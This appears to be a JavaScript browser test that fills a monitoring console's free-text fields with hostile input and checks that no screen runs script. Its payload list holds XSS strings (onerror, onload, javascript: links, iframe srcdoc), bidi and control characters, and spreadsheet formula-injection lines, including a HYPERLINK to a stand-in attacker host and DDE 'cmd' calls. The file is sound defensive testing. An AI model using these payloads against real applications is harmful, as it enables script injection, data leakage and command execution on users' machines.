// Hostile text everywhere ('Keep the class away'): a test engine and a user fill every
// free-text field they can with script, HTML, `javascript:` addresses, bidi overrides, control
// characters, formula prefixes and very long text, through the real API (ingest with an API key;
// the console's own calls with an administrator's token). Then a browser with the CSP bypassed
// visits every screen of the route table (spec §2) with the real ids of those entities, follows
// the drill, latency, MOS and run links the screens offer, and moves the mouse across every chart
// to raise its tooltips. Any script run (a dialog, or the payloads' marker `window.__pwned`), any
// `javascript:` link or page error fails the test. The CSP is bypassed on purpose: it is the second
// wall, and this test checks the first one (text is never read as HTML).
import {
  addUser,
  apiRequest,
  apiToken,
  assert,
  assertEqual,
  closePage,
  daysFromNow,
  minutesBeforeNow,
  signIn,
  sleep,
  startServer,
  testNow,
  VIEWPORTS,
} from "./lib.mjs";

/** What a payload runs: a counter, so that nothing depends on alert() being seen. */
const MARK = "window.__pwned=(window.__pwned||0)+1";

/** Hostile strings, each at most 200 characters (the ingest and form limit of a name). */
const PAYLOADS = [
  `X"'><img src=x onerror=${MARK}>`,
  `<script>${MARK}</script>`,
  `<svg onload=${MARK}><b>bold</b>`,
  `javascript:${MARK}//`,
  `<a href="javascript:${MARK}">link</a><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `\u202Egnp.exe</title><style>*{}</style> \u202Dbidi`,
  `ctl \u0007\u0008\u001b[31m\u007f\u200b\ufeff end`,
  `=HYPERLINK("http://evil.example/?"&A1,"click")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `${"<img src=x onerror=".padEnd(20)}${MARK}>`.padEnd(200, "W"),
  `'"><details open ontoggle=${MARK}>`,
];

/** A long text (prompts and utterances take up to 10,000 characters). */
const LONG = `${PAYLOADS[0]} ${"L".repeat(3000)} ${PAYLOADS[1]} ${"\u202E".repeat(5)}${"M".repeat(3000)}`;

const CASE_BASE = 924000;
const IVR_BASE = 924500;

/** Payload i with a suffix, cut to `max` characters (names take 200; labels and user names 100). */
function name(i, suffix = "", max = 200) {
  const p = PAYLOADS[i % PAYLOADS.length];
  return `${p.slice(0, max - suffix.length)}${suffix}`;
}

function steps(i) {
  return [
    {
      stepId: 1,
      stepType: name(i + 1),
      typeDisplayText: name(i + 2),
      prompt: LONG,
      promptLatencyMin: 100,
      promptLatencyMax: 2000,
      extra: { digits: name(i + 3), [`k${PAYLOADS[0]}`]: PAYLOADS[1] },
      testResult: { status: "pass", utterance: LONG, latency: 900 + i * 250, confidence: 0.9 },
    },
    {
      stepId: 2,
      stepType: "PROMPT",
      typeDisplayText: "Prompt",
      prompt: name(i + 4),
      testResult: { status: i % 3 ? "warn" : "fail", utterance: name(i + 5), latency: 2500 + i * 700 },
    },
  ];
}

function runs(channel, count, prefix, minutesAgo) {
  const out = [];
  for (let i = 0; i < count; i++) {
    const id = CASE_BASE + (channel === "web" ? 100 : 0) + i;
    for (let k = 0; k < 4; k++) {
      out.push({
        engineRunId: `hostile/${prefix}/${channel}/${i}/${k}`,
        testCase: {
          id,
          name: name(i, channel === "web" ? " web" : ""),
          channel,
          ivr: { id: IVR_BASE + (channel === "web" ? 100 : 0) + (i % 3), name: name(i + 6) },
        },
        runTime: minutesBeforeNow(minutesAgo + k * 47 + i),
        runDuration: 30 + i,
        status: ["pass", "warn", "fail", "stopped"][(i + k) % 4],
        runType: k % 2 ? "Schedule" : "Manual",
        mosCqIn: channel === "voice" ? 1.5 + ((i + k) % 7) * 0.5 : undefined,
        segments: [
          { segmentId: 1, segmentName: name(i + 7), steps: steps(i) },
          { segmentId: 2, segmentName: name(i + 8), steps: steps(i + 1) },
        ],
      });
    }
  }
  return out;
}

async function post(server, token, path, body, method = "POST") {
  const r = await apiRequest(server, method, path, { token, body });
  assertEqual(r.status, 200, `${method} ${path} (${r.text.slice(0, 400)})`);
  return r.json?.data;
}

/** `v` with control and text-direction characters taken out of every string in it. */
function clean(v) {
  if (typeof v === "string") {
    return [...v].filter((c) => !/[\p{Cc}\p{Cf}]/u.test(c)).join("");
  }
  if (Array.isArray(v)) return v.map(clean);
  if (v && typeof v === "object") return Object.fromEntries(Object.entries(v).map(([k, x]) => [k, clean(x)]));
  return v;
}

/**
 * A console write with hostile text. Fields that refuse control and text-direction characters
 * (a 400 saying so) get the same text without them: the rest of the payload still goes in.
 */
async function write(server, token, path, body, method = "POST") {
  const r = await apiRequest(server, method, path, { token, body });
  if (r.status === 400 && /control or text-direction/.test(r.text))
    return post(server, token, path, clean(body), method);
  assertEqual(r.status, 200, `${method} ${path} (${r.text.slice(0, 400)})`);
  return r.json?.data;
}

async function get(server, token, path) {
  const r = await apiRequest(server, "GET", path, { token });
  assertEqual(r.status, 200, `GET ${path} (${r.text.slice(0, 300)})`);
  return r.json?.data;
}

function ymd(d) {
  return d.toISOString().slice(0, 10);
}

/** Fills the server with hostile text; resolves the ids the screens are visited with. */
async function seed(server, admin) {
  const key = server.cli(["apikey", "add", "--name", "hostile-engine"]).trim();
  const token = await apiToken(server, admin);
  const ingest = async (r) => {
    const d = await post(server, key, "ingest/v1/runs", { runs: r });
    assertEqual(d.rejected, [], "ingest refused nothing");
  };
  await ingest([...runs("voice", PAYLOADS.length, "a", 5), ...runs("web", 4, "a", 5)]);
  await post(server, key, "ingest/v1/health", {
    clientApps: ["voice", "web"].flatMap((channel) =>
      [0, 1, 2].map((i) => ({
        clientEndPoint: name(i + channel.length),
        channel,
        lastRun: testNow().toISOString(),
        appStatus: { enabled: true, status: i ? "TRS_FAIL" : "TRS_PASS" },
        telcoStatus: { enabled: true, status: name(i + 1) },
        agentStatus: { enabled: i !== 1, status: "TRS_PASS" },
        componentStatus: [{ name: name(i + 2), hasComponent: true, enabled: true }],
      })),
    ),
  });

  const voiceCases = PAYLOADS.map((_, i) => ({ id: CASE_BASE + i }));
  const webCases = [0, 1, 2, 3].map((i) => ({ id: CASE_BASE + 100 + i }));
  const group = await write(server, token, "trs/v1/groups", {
    name: name(0, " group"),
    channel: "voice",
    testCases: voiceCases,
  });
  const webGroup = await write(server, token, "trs/v1/groups", {
    name: name(1, " web group"),
    channel: "web",
    testCases: webCases,
  });
  const dist = await write(server, token, "distributions", {
    name: name(2, " list", 100),
    contacts: [
      { name: name(3, "", 100), type: 1, info: "hostile-ops@example.com" },
      { name: name(11, "", 100), type: 2, info: "+15145550100" },
    ],
  });
  const setting = await write(server, token, "alerts/settings", {
    name: name(5, " setting"),
    active: true,
    testCaseGroupId: group.id,
    distributionId: dist.id,
    emailSubject: name(6),
    voiceMessage: `${name(7)} ${LONG}`.slice(0, 1000),
    smsPrefix: name(0, "", 60),
    failureToAlert: 1,
    notifyOnRecovery: true,
    alertStatus: ["FAIL", "WARN"],
    schedule: [1, 2, 3, 4, 5, 6, 7].map((day) => ({ dayOfWeek: day, startTimeSlot: "00:00", endTimeSlot: "24:00" })),
  });
  const user = await write(server, token, "users", {
    username: "hostile-user@example.com",
    firstName: name(0, "", 100),
    lastName: name(11, "", 100),
    roles: ["ROLE_USER"],
    accessType: "read-only",
    testCaseGroups: [{ id: group.id }],
    password: "hostile-User-pass-1",
  });

  // Reports of every type of both channels, over the days of the runs.
  const thresholds = await get(server, token, "reports/latencythresholds");
  const bounds = thresholds.map((t) => t.uppperBound).filter((b) => b !== undefined);
  const reports = [];
  for (const [channel, g] of [
    ["voice", group],
    ["web", webGroup],
  ]) {
    const types = await get(server, token, `reports/types?channel=${channel}`);
    for (const t of types) {
      const r = await write(server, token, "reports", {
        name: name(reports.length, ` report ${t.id}`),
        reportTypeID: t.id,
        testCaseGroupID: g.id,
        timeframeName: "Custom",
        timeframeBegin: ymd(daysFromNow(-2)),
        timeframeEnd: ymd(daysFromNow(1)),
        runType: reports.length % 2 ? "Schedule" : "Manual",
        latencyWarn: bounds[0],
        latencyFail: bounds[1],
      });
      reports.push({ id: r.id, type: t.id });
    }
  }

  // Failing runs after the setting: an alert event.
  await ingest(runs("voice", 3, "b", 1));
  let events = [];
  for (let i = 0; i < 100 && !events.length; i++) {
    events = (await get(server, token, "alerts/events?pageNo=0&pageSize=20")).content ?? [];
    if (!events.length) await sleep(300);
  }
  assert(events.length > 0, "an alert event was opened");
  const caseRuns = await get(
    server,
    token,
    `trs/v1/testcases/${CASE_BASE}/runs?startDate=${ymd(daysFromNow(-2))}&endDate=${ymd(daysFromNow(1))}`,
  );
  const runList = Array.isArray(caseRuns) ? caseRuns : (caseRuns?.content ?? []);
  return {
    group,
    webGroup,
    dist,
    setting,
    user,
    reports,
    events,
    runIds: runList.map((r) => r.runId ?? r.id).filter(Boolean),
  };
}

/** The screens of the route table, with real ids. */
function screens(s) {
  const list = [
    "/",
    "/dashboard",
    "/reports",
    "/report/add",
    "/alerts",
    "/settings/alert-settings/1",
    "/settings/test-case-group/2",
    "/settings/distribution-list/3",
    "/settings/admin-settings/4",
    "/setting",
    "/telco",
    "/report/setting/0",
    `/report/setting/${s.setting.id}`,
    `/report/setting/autojiratickets/${s.setting.id}`,
    "/report/distribution/0",
    `/report/distribution/${s.dist.id}`,
    "/users/0",
    `/users/${s.user.id}`,
    "/no/such/page",
  ];
  for (const r of s.reports) {
    list.push(`/report/view/${r.id}`, `/report/edit/${r.id}`);
    if (r.type !== 2 && r.type !== 5 && r.type !== 6 && r.type !== 7) list.push(`/report/view/testcase/${r.id}`);
  }
  for (const e of s.events.slice(0, 3)) list.push(`/alert/${e.id ?? e.alertId}`);
  for (const id of s.runIds.slice(0, 2)) list.push(`/report/run/${id}`);
  return list;
}

/** The shape of a route, so that the crawl follows a few links of each kind, not hundreds. */
function shape(p) {
  return p.replace(/\/-?\d[^/]*/g, "/N");
}

/** Moves the mouse across every chart of the page: bars along their length, donuts round their ring. */
async function hoverCharts(page) {
  const boxes = await page.$$eval(".cx-chart, .cx-donut-chart, svg.frappe-chart, [data-testid=journey]", (els) =>
    els.map((e, i) => {
      e.setAttribute("data-hover-id", String(i));
      return { i, donut: e.classList.contains("cx-donut-chart") };
    }),
  );
  let hovered = 0;
  for (const b of boxes) {
    const el = page.locator(`[data-hover-id="${b.i}"]`).first();
    try {
      await el.scrollIntoViewIfNeeded({ timeout: 2000 });
      await sleep(150);
      const r = await el.boundingBox();
      if (!r || r.width < 5 || r.height < 5) continue;
      hovered++;
      if (b.donut) {
        const cx = r.x + r.width / 2;
        const cy = r.y + r.height / 2;
        for (const f of [0.85]) {
          for (let a = 0; a < 360; a += 15) {
            const rad = (a * Math.PI) / 180;
            await page.mouse.move(cx + Math.cos(rad) * f * (r.width / 2), cy + Math.sin(rad) * f * (r.height / 2));
          }
        }
      } else {
        for (const fy of [0.6]) {
          for (let x = r.x + 2; x < r.x + r.width; x += Math.max(8, r.width / 40)) {
            await page.mouse.move(x, r.y + r.height * fy);
          }
        }
      }
    } catch {
      // A chart that went away while hovering (a refresh): the next one.
    }
  }
  await page.mouse.move(0, 0);
  return hovered;
}

/** What the page shows that would run a script on a click: `javascript:` links, frames, handlers. */
function dangerousMarkup(page) {
  return page.evaluate(() => {
    const bad = [];
    for (const a of document.querySelectorAll("[href], [src], [action], [formaction]")) {
      for (const attr of ["href", "src", "action", "formaction"]) {
        const v = a.getAttribute(attr);
        if (v && /^\s*javascript:/i.test(v)) bad.push(`${a.tagName} ${attr}=${v.slice(0, 60)}`);
      }
    }
    for (const f of document.querySelectorAll("iframe, object, embed, script:not([src])")) {
      bad.push(`${f.tagName} element`);
    }
    for (const el of document.querySelectorAll("body *")) {
      for (const at of el.attributes) {
        if (/^on/i.test(at.name)) bad.push(`${el.tagName} ${at.name}`);
      }
    }
    return bad;
  });
}

async function sweep(browser, server, admin, s, viewport) {
  const size = VIEWPORTS[viewport];
  const context = await browser.newContext({
    baseURL: server.url,
    viewport: size,
    ignoreHTTPSErrors: true,
    bypassCSP: true,
    isMobile: size.width < 768,
    hasTouch: size.width < 768,
  });
  // On the tests' clock, as newPage's pages are.
  await context.clock.install({ time: testNow() });
  const page = await context.newPage();
  const ran = [];
  page.on("dialog", (d) => {
    ran.push(`dialog (${d.type()}: ${d.message()}) at ${page.url()}`);
    d.dismiss().catch(() => {});
  });
  page.on("pageerror", (e) => ran.push(`page error at ${page.url()}: ${e.message}`));
  // The screen's requests in flight, but the live stream's, which stays open.
  const inFlight = new Set();
  page.on("request", (r) => {
    if (!new URL(r.url()).pathname.startsWith("/api/live")) inFlight.add(r);
  });
  for (const done of ["requestfinished", "requestfailed"]) page.on(done, (r) => inFlight.delete(r));
  /** Until no request has been in flight for 200 ms (5 s at most): the screen drew its answers. */
  const settled = async () => {
    for (let quiet = 0, waited = 0; quiet < 4 && waited < 5000; waited += 50) {
      await sleep(50);
      quiet = inFlight.size ? 0 : quiet + 1;
    }
  };
  await signIn(page, admin);

  const queue = screens(s);
  const seen = new Set(queue);
  const perShape = new Map();
  const origin = new URL(server.url).origin;
  let visited = 0;
  let charts = 0;
  let scripts = 0;
  const problems = [];
  while (queue.length) {
    const path = queue.shift();
    await page.goto(path);
    // Not 'networkidle': the live stream keeps a request open. Until nothing says 'Please wait'.
    await page
      .waitForFunction(() => !/Please wait|Loading/.test(document.body.textContent), null, { timeout: 8000 })
      .catch(() => {});
    await settled();
    charts += await hoverCharts(page);
    const pwned = await page.evaluate(() => window.__pwned ?? 0);
    if (pwned) problems.push(`${pwned} script(s) ran at ${path}`);
    scripts += pwned;
    for (const b of await dangerousMarkup(page)) problems.push(`${b} at ${path}`);
    visited++;
    // Follow the links the screen offers (drills, runs, latency and MOS lists, alerts, edits).
    const links = await page.$$eval("a[href]", (as) => as.map((a) => a.href));
    for (const l of links) {
      if (!l.startsWith(origin)) continue;
      const p = new URL(l).pathname;
      if (seen.has(p) || p === "/" || p.startsWith("/api/")) continue;
      const k = shape(p);
      if ((perShape.get(k) ?? 0) >= 3) continue;
      perShape.set(k, (perShape.get(k) ?? 0) + 1);
      seen.add(p);
      queue.push(p);
    }
  }
  await closePage(page);
  const dialogs = ran.filter((r) => r.startsWith("dialog")).length;
  return { visited, charts, scripts: scripts + dialogs, problems: [...problems, ...ran], shapes: perShape.size };
}

export default async function hostile({ browser, test }) {
  let server;
  try {
    server = await startServer({ args: [] });
    const admin = addUser(server, {
      username: "hostile-admin@example.com",
      password: "hostile-Admin-pass-1",
      role: "admin",
      access: "read-write",
    });
    let seeded;
    await test("hostile: an engine and an administrator fill every free-text field with hostile text", async () => {
      seeded = await seed(server, admin);
    });
    if (!seeded) return;
    for (const viewport of ["desktop", "phone"]) {
      await test(`hostile (${viewport}): every screen with the CSP bypassed runs no script`, async () => {
        const r = await sweep(browser, server, admin, seeded, viewport);
        console.log(
          `       hostile sweep (${viewport}): ${r.visited} screens visited, ${r.charts} charts hovered, ` +
            `${r.scripts} scripts run`,
        );
        assert(r.visited >= 30, `only ${r.visited} screens visited`);
        assert(r.charts > 0, "no chart hovered");
        assert(r.problems.length === 0, `scripts ran or could run:\n${r.problems.slice(0, 40).join("\n")}`);
      });
    }
  } finally {
    await server?.stop();
  }
}
